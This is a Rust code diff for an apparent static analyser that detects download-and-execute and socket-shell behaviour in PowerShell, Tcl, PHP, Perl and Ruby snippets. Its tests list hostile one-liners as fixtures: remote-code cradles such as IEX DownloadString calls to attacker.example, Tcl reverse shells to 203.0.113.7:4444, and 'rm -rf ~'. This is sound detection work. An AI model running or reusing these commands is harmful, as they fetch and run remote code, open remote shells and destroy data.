@@ -17,7 +17,7 @@ pub(crate) fn analyse(lang: Language, code: &str, depth: u8) -> Facts {
     let mut sink = Sink::new(depth);
     match lang {
         Language::PowerShell => powershell(code, &mut sink),
-        Language::Tcl => tcl(code, &mut sink, &mut HashMap::new()),
+        Language::Tcl => tcl(code, &mut sink, &mut HashMap::new(), 0),
         Language::Sqlite => sqlite(code, &mut sink),
         Language::Vim => vim(code, &mut sink),
         Language::Gdb => gdb(code, &mut sink),
@@ -1220,9 +1220,48 @@ fn value_call(lang: Language, name: &str, args: &[Val]) -> Val {
                 .unwrap_or_default(),
         ),
         "pack" if lang == Language::Perl => Val::Decoded(String::new()),
+        // Calls that return what they fetched: text downloaded when the
+        // argument is a URL (`file_get_contents("https://…")`).
+        "file_get_contents"
+        | "file"
+        | "stream_get_contents"
+        | "open"
+        | "uri.open"
+        | "kernel.open"
+        | "readlines"
+        | "read_file"
+            if first.str().is_some_and(is_url) =>
+        {
+            Val::Downloaded
+        }
+        "get"
+        | "lwp::simple::get"
+        | "http::tiny.new.get"
+        | "net::http.get"
+        | "net::http.get_response"
+        | "http.request"
+        | "socket.http.request"
+        | "http.get"
+        | "httr::get"
+        | "httr::content"
+        | "curl::curl_fetch_memory"
+        | "downloads.download"
+            if first.str().is_some_and(is_url) || first == Val::Downloaded =>
+        {
+            Val::Downloaded
+        }
+        "uri" | "uri.parse" | "url" => first,
         "parse" | "meta.parse" | "str2lang" => first,
         _ => Val::Unknown,
     }
+}
+
+/// A URL a program fetches code from.
+fn is_url(s: &str) -> bool {
+    let l = s.trim_start().to_ascii_lowercase();
+    ["http://", "https://", "ftp://"]
+        .iter()
+        .any(|p| l.starts_with(p))
 }
 
 // ------------------------------------------------------- word languages
@@ -1255,6 +1294,21 @@ fn words(line: &str, lang: Language, env: &HashMap<String, Val>) -> Vec<Val> {
             '[' if lang == Language::Tcl => {
                 let (t, n) = delimited(&chars, i);
                 (tcl_value(&t, env), n)
+            }
+            '(' if lang == Language::PowerShell => {
+                // A subexpression and what follows it (`(iwr URL).Content`),
+                // kept as text for the caller to run.
+                let (_, mut n) = delimited(&chars, i);
+                let mut depth = 0i32;
+                while n < chars.len() && (depth > 0 || !chars[n].is_whitespace()) {
+                    match chars[n] {
+                        '(' => depth += 1,
+                        ')' => depth -= 1,
+                        _ => {}
+                    }
+                    n += 1;
+                }
+                (Val::Name(chars[i..n].iter().collect()), n)
             }
             _ => {
                 let start = i;
@@ -1321,29 +1375,98 @@ fn powershell(code: &str, sink: &mut Sink) {
         if stmt.starts_with('#') {
             continue;
         }
-        // `$x = "…"`
+        // `$x = "…"`, `$x = (irm URL)`, `$x = Invoke-RestMethod URL`
         if let Some((lhs, rhs)) = stmt.split_once('=') {
             let lhs = lhs.trim();
             if lhs.starts_with('$') && !lhs.contains(' ') && !rhs.starts_with('=') {
                 let w = words(rhs.trim(), Language::PowerShell, &env);
-                if w.len() == 1 {
-                    env.insert(lhs.trim_start_matches('$').to_string(), w[0].clone());
-                }
+                let cmdlet = w.first().and_then(Val::str).is_some_and(|n| {
+                    n.starts_with(|c: char| c.is_ascii_alphabetic())
+                        && (n.contains('-')
+                            || matches!(n.to_ascii_lowercase().as_str(), "irm" | "iwr" | "gc"))
+                });
+                let v = if w.len() == 1 {
+                    ps_resolve(&w[0], sink, &env, 0)
+                } else if cmdlet {
+                    ps_pipeline(rhs.trim(), sink, &env, 0)
+                } else {
+                    continue;
+                };
+                env.insert(lhs.trim_start_matches('$').to_string(), v);
                 continue;
             }
         }
-        let mut piped = Val::Unknown;
-        for seg in stmt.split('|') {
-            let w = words(seg.trim(), Language::PowerShell, &env);
-            piped = ps_command(&w, piped, sink);
+        ps_pipeline(stmt, sink, &env, 0);
+    }
+}
+
+/// How deep PowerShell subexpressions `( … )` are followed.
+const PS_MAX_DEPTH: u8 = 4;
+
+/// A PowerShell pipeline; returns what its last command passes on.
+fn ps_pipeline(stmt: &str, sink: &mut Sink, env: &HashMap<String, Val>, depth: u8) -> Val {
+    // `IEX(…)`: the cmdlet name ends at its bracket.
+    let mut text = stmt.to_string();
+    for name in ["iex(", "invoke-expression("] {
+        if text.to_ascii_lowercase().starts_with(name) {
+            text.insert(name.len() - 1, ' ');
         }
+    }
+    let mut piped = Val::Unknown;
+    for seg in text.split('|') {
+        let w = words(seg.trim(), Language::PowerShell, env);
+        let w: Vec<Val> = w.iter().map(|v| ps_resolve(v, sink, env, depth)).collect();
+        piped = ps_command(&w, piped, sink);
+    }
+    piped
+}
+
+/// The value of a PowerShell word: a subexpression `(irm URL)`,
+/// `(iwr URL).Content` or `(New-Object Net.WebClient).DownloadString(URL)`
+/// is run; other words are themselves.
+fn ps_resolve(v: &Val, sink: &mut Sink, env: &HashMap<String, Val>, depth: u8) -> Val {
+    let text = match v {
+        Val::Str(t) | Val::Name(t) => t.as_str(),
+        _ => return v.clone(),
+    };
+    let lower = text.to_ascii_lowercase();
+    // `.DownloadString('URL')` on a WebClient, however it was made.
+    for m in [".downloadstring(", ".downloaddata("] {
+        if let Some(at) = lower.find(m) {
+            let chars: Vec<char> = text[at + m.len() - 1..].chars().collect();
+            let (arg, _) = delimited(&chars, 0);
+            let u = words(arg.trim(), Language::PowerShell, env)
+                .into_iter()
+                .next()
+                .unwrap_or(Val::Unknown);
+            sink.url(&u);
+            return Val::Downloaded;
+        }
+    }
+    if !matches!(v, Val::Name(_)) {
+        return v.clone();
+    }
+    if depth >= PS_MAX_DEPTH {
+        return Val::Unknown;
+    }
+    let chars: Vec<char> = text.chars().collect();
+    let (inner, _) = delimited(&chars, 0);
+    match ps_pipeline(&inner, sink, env, depth + 1) {
+        // `(iwr URL).Content`: still the downloaded text.
+        Val::Downloaded => Val::Downloaded,
+        other if text.len() == inner.len() + 2 => other,
+        _ => Val::Unknown,
     }
 }
 
 /// One PowerShell command; returns what it passes down the pipeline.
 fn ps_command(w: &[Val], piped: Val, sink: &mut Sink) -> Val {
     let Some(name) = w.first().and_then(Val::str) else {
-        return Val::Unknown;
+        // An expression on its own: its value.
+        return match w {
+            [only] => only.clone(),
+            _ => Val::Unknown,
+        };
     };
     let name = name.to_ascii_lowercase();
     let (name, w) = if name == "&" || name == "." {
@@ -1508,7 +1631,9 @@ fn ps_command(w: &[Val], piped: Val, sink: &mut Sink) -> Val {
             Val::Unknown
         }
         "invoke-expression" | "iex" => {
-            let code = positional().into_iter().next().unwrap_or(piped);
+            let code = param(&["-command"])
+                .or_else(|| positional().into_iter().next())
+                .unwrap_or(piped);
             sink.eval(Language::PowerShell, &code);
             Val::Unknown
         }
@@ -1545,12 +1670,51 @@ fn tcl_value(cmd: &str, env: &HashMap<String, Val>) -> Val {
                 .unwrap_or(&Val::Unknown),
         ),
         (Some("set"), Some(name)) if w.len() == 2 => env.get(name).cloned().unwrap_or(Val::Unknown),
+        (Some("socket"), _) => Val::Name(TCL_SOCKET.into()),
+        // A line or the rest of what a socket sent.
+        (Some("gets" | "read"), _)
+            if w.iter().skip(1).any(|v| *v == Val::Name(TCL_SOCKET.into())) =>
+        {
+            Val::FromSocket
+        }
         _ => Val::Unknown,
     }
 }
 
-fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>) {
+/// The value of a Tcl channel opened with `socket`.
+const TCL_SOCKET: &str = "tcl:socket";
+
+/// How deep Tcl bodies and command substitutions are followed.
+const TCL_MAX_DEPTH: u8 = 6;
+
+/// The command substitutions `[…]` of a Tcl command, outside braces.
+fn tcl_substitutions(stmt: &str) -> Vec<String> {
+    let chars: Vec<char> = stmt.chars().collect();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < chars.len() {
+        match chars[i] {
+            '\\' => i += 2,
+            '{' => i = delimited(&chars, i).1,
+            '[' => {
+                let (t, n) = delimited(&chars, i);
+                out.push(t);
+                i = n;
+            }
+            _ => i += 1,
+        }
+    }
+    out
+}
+
+fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>, depth: u8) {
     for stmt in statements(code, "[]{}") {
+        if depth < TCL_MAX_DEPTH {
+            // `puts [exec …]`, `set s [socket …]`: the commands substituted run too.
+            for sub in tcl_substitutions(stmt.trim()) {
+                tcl(&sub, sink, env, depth + 1);
+            }
+        }
         let w = words(stmt.trim(), Language::Tcl, env);
         let Some(cmd) = w.first().and_then(Val::str) else {
             continue;
@@ -1562,11 +1726,32 @@ fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>) {
                 }
             }
             "exec" | "spawn" => {
-                let argv: Vec<Val> = w[1..]
-                    .iter()
-                    .filter(|v| !v.str().is_some_and(|s| s == "--" || s == "&"))
-                    .cloned()
-                    .collect();
+                let mut argv: Vec<Val> = Vec::new();
+                let socket = Val::Name(TCL_SOCKET.into());
+                let mut i = 1;
+                while i < w.len() {
+                    let t = w[i].str().unwrap_or("");
+                    i += 1;
+                    if t == "--" || t == "&" {
+                        continue;
+                    }
+                    // `exec sh <@ $sock >@ $sock`: streams wired to a channel.
+                    if let Some(op) = ["2>@1", "2>@", "<@", ">@"]
+                        .into_iter()
+                        .find(|op| t.starts_with(op))
+                    {
+                        let target = if t == op && op != "2>@1" {
+                            i += 1;
+                            w.get(i - 1).cloned().unwrap_or(Val::Unknown)
+                        } else {
+                            let name = t[op.len()..].trim_start_matches('$');
+                            env.get(name).cloned().unwrap_or(Val::Unknown)
+                        };
+                        sink.dup |= target == socket;
+                        continue;
+                    }
+                    argv.push(w[i - 1].clone());
+                }
                 sink.argv(&argv);
             }
             "file" => match w.get(1).and_then(Val::str) {
@@ -1605,6 +1790,12 @@ fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>) {
                 sink.socket = true;
                 sink.facts.network = true;
             }
+            // `gets $sock line`: the variable holds what the socket sent.
+            "gets" if w.len() == 3 && w[1] == Val::Name(TCL_SOCKET.into()) => {
+                if let Some(name) = w[2].str() {
+                    env.insert(name.to_string(), Val::FromSocket);
+                }
+            }
             "eval" | "uplevel" => {
                 if let Some(v) = w.get(1) {
                     sink.eval(Language::Tcl, v);
@@ -1614,8 +1805,12 @@ fn tcl(code: &str, sink: &mut Sink, env: &mut HashMap<String, Val>) {
                 // Bodies of `if`, `foreach`, `proc`: look inside braces.
                 for v in &w[1..] {
                     if let Some(s) = v.str() {
-                        if s.contains('\n') || s.contains("exec ") || s.contains("file ") {
-                            sink.eval(Language::Tcl, v);
+                        let code_like = ["\n", "exec ", "file ", "eval ", "socket ", "gets "]
+                            .iter()
+                            .any(|k| s.contains(k));
+                        if code_like && depth < TCL_MAX_DEPTH {
+                            // In the same scope: `while 1 { … $sock … }`.
+                            tcl(s, sink, env, depth + 1);
                         }
                     }
                 }
@@ -2169,5 +2364,110 @@ mod tests {
         );
         assert_eq!(cmds(Gdb, "!rm -rf ~"), ["rm -rf ~"]);
         assert_eq!(cmds(Gdb, "python import os; os.system('id')"), ["id"]);
+    }
+
+    #[test]
+    fn evals_fetched_text() {
+        use Language::*;
+        for (lang, code) in [
+            (
+                Php,
+                r#"eval(file_get_contents("https://attacker.example/p.txt"));"#,
+            ),
+            (
+                Php,
+                r#"$c = file_get_contents('http://x.example/a'); eval($c);"#,
+            ),
+            (
+                Perl,
+                r#"use LWP::Simple; eval(get("https://x.example/p.pl"));"#,
+            ),
+            (Ruby, r#"eval(URI.open("https://x.example/p.rb").read)"#),
+            (Ruby, r#"eval Net::HTTP.get(URI("https://x.example/p.rb"))"#),
+            (PowerShell, "iex (irm https://attacker.example/p.ps1)"),
+            (
+                PowerShell,
+                "Invoke-Expression (Invoke-RestMethod -Uri https://x.example/p)",
+            ),
+            (PowerShell, "iex (iwr https://x.example/p.ps1).Content"),
+            (
+                PowerShell,
+                "iex (iwr -UseBasicParsing https://x.example/p.ps1).Content",
+            ),
+            (
+                PowerShell,
+                "IEX(New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')",
+            ),
+            (
+                PowerShell,
+                "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))",
+            ),
+            (PowerShell, "$s = irm https://x.example/p.ps1; iex $s"),
+            (
+                PowerShell,
+                "$s = (iwr https://x.example/p.ps1).Content; Invoke-Expression $s",
+            ),
+            (PowerShell, "irm https://x.example/p.ps1 | iex"),
+        ] {
+            let f = analyse(lang, code);
+            assert!(f.evals_downloaded, "{lang:?}: {code}");
+            assert!(f.network, "{lang:?}: {code}");
+        }
+        let f = analyse(PowerShell, "iex (irm https://attacker.example/p.ps1)");
+        assert_eq!(f.urls, ["https://attacker.example/p.ps1"]);
+    }
+
+    #[test]
+    fn local_text_is_not_fetched() {
+        use Language::*;
+        for (lang, code) in [
+            (
+                Php,
+                "$c = json_decode(file_get_contents('config.json')); print_r($c);",
+            ),
+            (Php, "eval(file_get_contents('local.php'));"),
+            (PowerShell, "iex $scriptBlock"),
+            (
+                PowerShell,
+                "Invoke-Expression (Get-Content ./build.ps1 -Raw)",
+            ),
+            (
+                PowerShell,
+                "$v = (Get-Content package.json | ConvertFrom-Json).version; $v",
+            ),
+            (PowerShell, "Write-Host '(irm https://x.example/p)'"),
+            (Ruby, r#"eval(File.read("script.rb"))"#),
+            (Tcl, "set f [open data.txt]; puts [gets $f]; close $f"),
+        ] {
+            let f = analyse(lang, code);
+            assert!(!f.evals_downloaded, "{lang:?}: {code}");
+            assert!(!f.socket_shell, "{lang:?}: {code}");
+        }
+        assert!(
+            analyse(PowerShell, "Write-Host '(irm https://x.example/p)'")
+                .commands
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn socket_input_run() {
+        use Language::*;
+        for code in [
+            "set s [socket 203.0.113.7 4444]; while 1 { puts $s [exec sh -c [gets $s]]; flush $s }",
+            "set c [socket 203.0.113.7 4444]\nwhile {[gets $c line] >= 0} { eval $line }",
+            "set s [socket 203.0.113.7 4444]; eval [gets $s]",
+            "set s [socket 203.0.113.7 4444]; exec /bin/sh <@ $s >@ $s 2>@1",
+        ] {
+            let f = analyse(Tcl, code);
+            assert!(f.socket_shell, "{code}");
+        }
+        // A client that only talks over its socket.
+        let f = analyse(
+            Tcl,
+            "set s [socket example.com 80]; puts $s hi; puts [gets $s]",
+        );
+        assert!(f.network && !f.socket_shell);
+        assert_eq!(cmds(Tcl, "puts [exec git status]"), ["git status"]);
     }
 }
